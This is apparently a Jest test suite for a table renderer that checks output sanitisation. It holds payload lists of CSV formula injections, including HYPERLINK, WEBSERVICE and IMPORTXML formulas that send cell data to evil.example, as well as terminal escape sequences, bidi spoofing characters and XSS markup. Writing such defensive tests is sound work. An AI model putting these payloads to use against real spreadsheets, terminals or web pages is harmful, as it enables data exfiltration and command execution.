import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';

import { displayWidth, type Format, renderTable, type Table } from './index.js';

const LEADERS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠'];
const DISGUISES = ['', ' ', '\u{a0}', '\u{3000}', '\u{feff}', '\u{200b}', '\u{200d}\u{2060}', '\u{2028}'];

const FORMULAS = [
  ...DISGUISES.flatMap((disguise) => LEADERS.map((leader) => `${disguise}${leader}1+cmd|'/C calc'!A0`)),
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|' /C calc'!A0",
  '-5%+1',
];
const SPLITS = [
  'x;=1+1',
  '";=1+1',
  '",=1+1',
  '"\n=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  "'=1+1",
  '"=1+1"',
  'a,"=b"\n"',
  ';=cmd',
];
const TERMINALS = [
  '\u{1b}[2J\u{1b}[H',
  '\u{1b}]0;owned\u{7}',
  '\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\',
  '\u{1b}]52;c;ZXZpbA==\u{7}',
  '\u{1b}P$q"p\u{1b}\\',
  '\u{9b}31mred',
  '\u{9d}0;t\u{9c}',
  'all well\rall lost',
  'ab\b\bcd',
  'a\u{b}b\u{c}c',
  'x\u{7f}\u{7f}y',
  'line\u{85}break',
  'a\u{2028}b\u{2029}c',
];
const INVISIBLE = [
  '\u{202e}txt.exe',
  'a\u{202a}b\u{202b}c\u{202c}d\u{202d}e',
  '\u{2066}a\u{2067}b\u{2068}c\u{2069}',
  '\u{200e}\u{200f}\u{61c}',
  'zero\u{200b}width\u{200c}joiner\u{200d}s',
  '\u{feff}mark',
  'soft\u{ad}hyphen',
  '\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}',
  '\u{180e}\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}',
  'tag\u{e0041}\u{e0042}',
  'sel\u{fe0f}\u{e0100}',
  '\u{fff9}a\u{fffa}b\u{fffb}',
  '\u{d800}',
  'x\u{dfff}y',
  '\u{d83d}\u{d83d}\u{de00}',
  '\u{ffff}\u{fdd0}',
  '\u{2800}\u{2800}',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![p](https://evil.example/p.png)',
  '[go](javascript:alert(1))',
  '| a | b |',
  '\\| x \\\\| y',
  '`code` | `more',
  '&lt;b&gt; &#124;',
  '\n\n# heading\n\n---\n',
  '<!-- -->',
  'x | y\n| --- |',
  '__proto__',
  'a'.repeat(500),
  'a\u{301}'.repeat(200),
  '\u{1100}'.repeat(200),
  '{"format":"x"}\n',
];

const PAYLOADS = [...FORMULAS, ...SPLITS, ...TERMINALS, ...INVISIBLE, ...MARKUP];
const NAMED = PAYLOADS.map((payload) => [JSON.stringify(payload).slice(0, 60), payload] as const);

const tableWith = (payload: string): Table => ({
  columns: [
    { key: 'first', title: 'First' },
    { key: 'second', title: 'Second', right: true },
  ],
  rows: [
    [payload, 'next'],
    ['below', payload],
  ],
});

const print = (payload: string, format: Format, width = 60): string =>
  renderTable(
    format === 'csv' || format === 'json'
      ? tableWith(payload)
      : { ...tableWith(payload), caption: payload, none: payload },
    { format, width, colour: false },
  );

const ACTIVE =
  /(?!\n)\p{Cc}|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}\u{2800}]/u;
const STARTS_A_FORMULA = /^[\p{Z}\p{Default_Ignorable_Code_Point}]*[=+\-@\t\r\n\0＝＋－＠]/u;

const unspelt = (text: string): string =>
  text
    .replace(/[\u{2400}-\u{241f}]/gu, (picture) => String.fromCharCode(picture.charCodeAt(0) - 0x2400))
    .replace(/␡/gu, '\u{7f}')
    .replace(/\\x(8.|9.)|\\u\{(d[89a-f]..)\}/gu, (_, short: string | undefined, long: string) =>
      String.fromCharCode(Number.parseInt(short ?? long, 16)),
    );

it('there are payloads enough', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(150);
});

describe.each(NAMED)('%s', (_, payload) => {
  it.each(['text', 'list', 'md'] as const)('does nothing as %s', (format) => {
    for (const width of [40, 60, 120]) {
      const printed = print(payload, format, width);
      expect(printed).not.toMatch(ACTIVE);
      expect(printed).toMatch(/next/u);
      expect(printed).toMatch(/below/u);
      if (format !== 'md') {
        for (const line of printed.split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(width);
      }
    }
  });

  it('adds no cell, row or tag to Markdown', () => {
    const lines = print(payload, 'md').split('\n');
    expect(lines).toHaveLength(7);
    expect(lines[0]).toMatch(/^\*\*.*\*\*$/u);
    for (const line of lines.slice(2, 6)) {
      expect(line.replace(/\\./gu, '').match(/\|/gu)).toHaveLength(3);
      expect(line.replace(/\\./gu, '')).not.toMatch(/[<>`[\]]|&(?!(?:amp|lt|gt);)/u);
    }
  });

  it('is text in CSV, and can be got back', () => {
    const printed = print(payload, 'csv');
    expect(printed).not.toMatch(/(?![\n\t])\p{Cc}|\p{Cs}/u);
    const read: string[][] = parse(printed, { record_delimiter: '\n' });
    expect(read.map(({ length }) => length)).toEqual([2, 2, 2]);
    const [, [cell = '', next], [below, again]] = read as [string[], string[], string[]];
    expect([next, below, again]).toEqual(['next', 'below', cell]);
    expect(cell).not.toMatch(STARTS_A_FORMULA);
    if (FORMULAS.includes(payload)) expect(cell.startsWith("'")).toBe(true);
    const original = payload.replace(/\r\n/gu, '\n');
    expect([original, `'${original}`]).toContain(unspelt(cell));
  });

  it('is itself in JSON, and can be printed', () => {
    const printed = print(payload, 'json');
    expect(printed).not.toMatch(/(?!\n)\p{Cc}|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u);
    expect(JSON.parse(printed)).toEqual([
      { first: payload, second: 'next' },
      { first: 'below', second: payload },
    ]);
  });
});

describe('a hostile title', () => {
  it.each(['text', 'list', 'md', 'csv'] as const)('does nothing as %s', (format) => {
    for (const payload of PAYLOADS) {
      const table = { columns: [{ key: 'key', title: payload }], rows: [['value']] };
      expect(renderTable(table, { format, width: 60, colour: false })).not.toMatch(ACTIVE);
    }
  });
});
